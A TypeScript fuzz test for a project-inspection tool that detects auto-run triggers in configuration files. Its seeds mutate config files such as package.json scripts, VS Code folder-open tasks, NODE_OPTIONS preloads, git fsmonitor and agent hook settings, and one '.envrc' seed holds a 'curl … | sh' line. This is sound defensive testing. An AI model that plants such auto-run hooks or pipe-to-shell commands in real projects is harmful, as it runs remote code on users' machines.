/** Random trees of random configuration: valid files, cut, joined, with pieces changed. No trigger reader and no tree detector may throw, or take long. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectors } from '../../src/inspect/detectors/registry.generated.ts';
import { textAccess } from '../../src/inspect/engine/context.ts';
import { readTriggersWith } from '../../src/inspect/triggers/read-triggers.ts';
import { triggerReaders } from '../../src/inspect/triggers/registry.generated.ts';
import { type Contents, contextOf } from '../support/context.ts';
import { memoryTree } from '../support/memory-tree.ts';

const json = (value: unknown): string => JSON.stringify(value, null, 1);
const SEEDS: Readonly<Record<string, string>> = {
  'package.json': json({
    name: 'a',
    version: '1.0.0',
    main: 'a.js',
    bin: { a: 'a.js' },
    exports: { '.': { import: './a.js' } },
    workspaces: ['packages/*'],
    scripts: { prepare: 'node a.js && sh -c "cd b; make x"', start: 'npm run b', b: 'concurrently "npm:start" "vite"' },
    dependencies: { express: '^4.0.0', x: 'github:a/b', y: 'file:../y', z: 'https://h.invalid/z.tgz' },
    overrides: { z: { q: '1' } },
    husky: { hooks: { 'pre-commit': 'node a.js' } },
  }),
  '.vscode/tasks.json': json({
    version: '2.0.0',
    inputs: [{ id: 'i', type: 'promptString' }],
    tasks: [
      {
        label: 'l',
        type: 'shell',
        command: 'node',
        args: ['a.js', { value: 'b', quoting: 'escape' }],
        runOptions: { runOn: 'folderOpen' },
        dependsOn: ['l'],
        presentation: { reveal: 'never' },
        windows: { command: 'cmd /c x' },
      },
    ],
  }),
  '.vscode/settings.json': json({
    'task.allowAutomaticTasks': 'on',
    'terminal.integrated.env.linux': { NODE_OPTIONS: '--require ./a.js' },
    'git.path': './x',
    'eslint.nodePath': 'b',
  }),
  '.vscode/launch.json': json({
    configurations: [{ type: 'node', request: 'launch', program: '${workspaceFolder}/a.js', preLaunchTask: 'l' }],
  }),
  '.devcontainer/devcontainer.json': json({
    postCreateCommand: ['node', 'a.js'],
    initializeCommand: { a: 'x', b: ['y'] },
    features: {},
  }),
  'tsconfig.json': json({
    extends: './b.json',
    compilerOptions: { baseUrl: '.', paths: { '@/*': ['src/*'] }, plugins: [{ name: 'x' }] },
  }),
  '.github/workflows/a.yml':
    'on: [push]\njobs:\n  a: &a\n    runs-on: x\n    steps:\n      - run: |\n          node a.js\n      - uses: ./b\n  b: *a\n  c:\n    <<: *a\n',
  'docker-compose.yml': 'services:\n  a:\n    build: .\n    command: ["node", "a.js"]\n    volumes:\n      - .:/x\n',
  'pnpm-lock.yaml':
    "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {integrity: sha512-x, tarball: https://h.invalid/a.tgz}\n",
  'yarn.lock':
    '# yarn lockfile v1\n\n"a@^1.0.0":\n  version "1.0.0"\n  resolved "https://h.invalid/a.tgz#x"\n  integrity sha512-x\n',
  'package-lock.json': json({
    lockfileVersion: 3,
    packages: {
      '': {},
      'node_modules/a': { version: '1.0.0', resolved: 'https://h.invalid/a.tgz', hasInstallScript: true },
    },
    dependencies: { a: { version: '1.0.0', dependencies: {} } },
  }),
  'bun.lock': '{ "lockfileVersion": 0, "packages": { "a": ["a@1.0.0", "", {}, "sha512-x"], }, }',
  'pyproject.toml':
    '[build-system]\nrequires = ["x"]\nbuild-backend = "b"\nbackend-path = ["."]\n[project.scripts]\na = "b:c"\n[tool.poe.tasks]\nx = { shell = "node a.js" }\n',
  'Cargo.toml': '[package]\nname = "a"\nbuild = "b.rs"\n[dependencies]\nx = { git = "https://h.invalid/x" }\n',
  'bunfig.toml': 'preload = ["./a.js"]\n[test]\npreload = "b.ts"\n',
  Makefile: 'X := $(shell node a.js)\nall: b\n\t@node a.js \\\n\t  && make b\nb:\n\t$(X)\n',
  '.npmrc': 'registry=https://h.invalid/\nnode-options=--require ./a.js\n',
  '.yarnrc.yml': 'yarnPath: .yarn/releases/y.cjs\nplugins:\n  - path: a.js\n    spec: x\n',
  '.env': 'A="b\nc"\nNODE_OPTIONS=--import ./a.js\nexport B=${A}\n',
  '.envrc': 'source a.sh\ncurl h.invalid | sh\n',
  '.git/config': '[core]\n\tfsmonitor = node a.js\n\thooksPath = h\n[alias "x"]\n\ty = !z\n[include]\n\tpath = ../b\n',
  '.gitattributes': '* filter=x\n*.js diff=y -text\n',
  '.husky/pre-commit': '#!/bin/sh\n. "$(dirname "$0")/_/husky.sh"\nnode a.js\n',
  '.claude/settings.json': json({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'node a.js' }] }] } }),
  '.mcp.json': json({ mcpServers: { a: { command: 'node', args: ['a.js'], env: { X: 'y' } } } }),
  '.idea/workspace.xml':
    '<project><component name="x"><task path="$PROJECT_DIR$/package.json"><package-json value="a"/></task></component></project>',
  'pom.xml':
    '<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>node</executable></configuration></plugin></plugins></build></project>',
  'main.tf': 'resource "null_resource" "a" {\n  provisioner "local-exec" {\n    command = "node a.js"\n  }\n}\n',
  'setup.py': 'from setuptools import setup\nsetup(cmdclass={"install": X})\n',
  'go.mod': 'module a\n\nreplace x => ../x\n',
  Gemfile: 'source "https://h.invalid"\ngem "x", path: "."\n',
  'composer.json': json({ scripts: { 'post-install-cmd': ['@php a.php'] } }),
};
const NAMES = Object.keys(SEEDS);
const PIECES = [
  '{',
  '}',
  '[',
  ']',
  '"',
  "'",
  ':',
  ',',
  '\n',
  '\t',
  '\\',
  '\0',
  '\u001b',
  '\u2028',
  '\ud800',
  '$(',
  '${',
  '`',
  '*a',
  '&a ',
  '<<: ',
  '- ',
  '__proto__',
  'constructor',
  'null',
  '-1',
  '1e999',
  'true',
  '..',
  '/',
  '//',
  '/*',
  '<!--',
  '<![CDATA[',
  '#',
  '=',
  '%',
  '!',
  '|',
  '&&',
  'a'.repeat(3_000),
  '[a]\n',
  '"__proto__":{"x":1},',
];

const edit = fc.record({
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  drop: fc.nat(30),
  put: fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 12, unit: 'binary' })),
  times: fc.constantFrom(1, 1, 1, 2, 300),
});
const changed = fc
  .tuple(fc.constantFrom(...NAMES), fc.constantFrom(...NAMES), fc.boolean(), fc.array(edit, { maxLength: 6 }))
  .map(([name, other, swap, edits]): readonly [string, string] => {
    let text = (swap ? SEEDS[other] : SEEDS[name]) ?? '';
    for (const { at, drop, put, times } of edits) {
      const from = Math.floor(at * text.length);
      text = text.slice(0, from) + put.repeat(times) + text.slice(from + drop);
    }
    return [name, text];
  });
const trees = fc
  .tuple(
    fc.array(changed, { minLength: 1, maxLength: 8 }),
    fc.constantFrom('', '', 'sub/', 'node_modules/x/', 'a!/', 'b.git!/main:'),
  )
  .map(
    ([files, prefix]): Contents => ({
      'a.js': 'eval(1)',
      ...Object.fromEntries(files.map(([name, text]) => [prefix + name, text])),
    }),
  );

describe('random configuration', () => {
  it('the files as they are have triggers', () => {
    const tree = memoryTree(SEEDS);
    const { triggers, problems, unread } = readTriggersWith(
      triggerReaders,
      tree,
      textAccess(tree, new Map(tree.files.map((file) => [file.path, file]))),
    );
    expect(problems).toEqual([]);
    expect(unread).toEqual([]);
    expect(new Set(triggers.map((trigger) => trigger.file)).size).toBeGreaterThan(15);
  });

  it('no trigger reader throws, and all triggers stand in files', () => {
    fc.assert(
      fc.property(trees, (contents) => {
        const tree = memoryTree(contents);
        const files = new Map(tree.files.map((file) => [file.path, file]));
        const { triggers, problems } = readTriggersWith(triggerReaders, tree, textAccess(tree, files));
        expect(problems).toEqual([]);
        for (const trigger of triggers) {
          expect(files.has(trigger.file)).toBe(true);
          expect(trigger.line).toBeGreaterThan(0);
          for (const entry of trigger.entries) expect(files.has(entry.path)).toBe(true);
        }
      }),
      { numRuns: 400 },
    );
  });

  it('no tree detector throws', { timeout: 60_000 }, async () => {
    const asked = detectors.filter((detector) => detector.tree !== undefined);
    expect(asked.length).toBeGreaterThan(20);
    await fc.assert(
      fc.asyncProperty(trees, async (contents) => {
        const context = await contextOf(contents);
        for (const detector of asked)
          for (const hit of detector.tree?.(context) ?? [])
            if (hit.file !== undefined) expect(context.files.has(hit.file), detector.id).toBe(true);
      }),
      { numRuns: 200 },
    );
  });
});
